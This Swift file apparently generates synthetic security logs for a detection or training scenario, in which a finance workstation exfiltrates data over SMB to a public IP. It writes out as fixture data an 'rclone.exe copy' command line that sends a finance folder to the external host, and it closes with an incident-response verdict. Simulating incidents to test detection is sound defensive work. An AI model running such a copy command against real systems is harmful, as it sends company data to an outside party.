/// Scenario 1: FIN-WS-047 mounts a share on a public host with `net use`, then rclone copies a
/// few hundred megabytes out over 445 in four long flows — seen by Packetbeat, Zeek, the firewall
/// and the workstation's own Sysmon.
extension StoryBuilder {
    static let exfiltrationTarget = "45.146.164.110"
    static let exfiltratingWorkstation = NamedHost(address: "10.20.3.47", name: "FIN-WS-047")

    mutating func addExfiltration() {
        let workstation = Self.exfiltratingWorkstation
        let user = "CORP\\m.keller"
        let sensors: Set<Sensor> = [.packetbeat, .zeekHQ, .panos, .winlogbeat]
        var probe = completed(
            from: workstation.address, to: Self.exfiltrationTarget, port: 445, application: .smb,
            at: jittered(time(12, 31, 7)), seconds: 4.21, clientBytes: 6_412, serverBytes: 8_934, sensors: sensors
        )
        probe.process = systemProcess(on: workstation.name)
        story.connections.append(probe)

        let rclone = process(
            image: "C:\\Users\\m.keller\\AppData\\Local\\Temp\\rc\\rclone.exe", user: user, hostName: workstation.name
        )
        story.processStarts.append(ProcessStart(
            time: jittered(time(12, 37, 52)), process: rclone,
            commandLine: "rclone.exe copy \"F:\\Finance\\Close 2026\" drop:/in --transfers 2 "
                + "--smb-host \(Self.exfiltrationTarget)",
            parentImage: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", sensor: .winlogbeat,
            recordID: sysmonRecordID()
        ))
        let flows: [(hour: Int, minute: Int, minutes: Int, megabytes: Int64)] = [
            (12, 38, 31, 96), (13, 17, 37, 118), (13, 58, 24, 71), (14, 26, 29, 58),
        ]
        for flow in flows {
            var connection = completed(
                from: workstation.address, to: Self.exfiltrationTarget, port: 445, application: .smb,
                at: jittered(time(flow.hour, flow.minute, random.int(in: 0...59))),
                seconds: Double(flow.minutes * 60 + random.int(in: 0...59)) + 0.25,
                clientBytes: flow.megabytes * 1_048_576 + random.int64(in: 0...999_999),
                serverBytes: flow.megabytes * 4_300 + random.int64(in: 0...99_999), sensors: sensors
            )
            connection.process = rclone
            story.connections.append(connection)
        }
        let megabytes = story.connections.filter { $0.server.address == Self.exfiltrationTarget }
            .map(\.clientBytes).reduce(0, +) / 1_000_000
        story.notableHosts.append(NotableHost(
            address: workstation.address, name: workstation.name,
            scenario: "exfiltrates \(megabytes) MB with rclone.exe to \(Self.exfiltrationTarget):445",
            verdict: "true positive: isolate the host, block the destination, reset m.keller's credentials"
        ))
    }
}
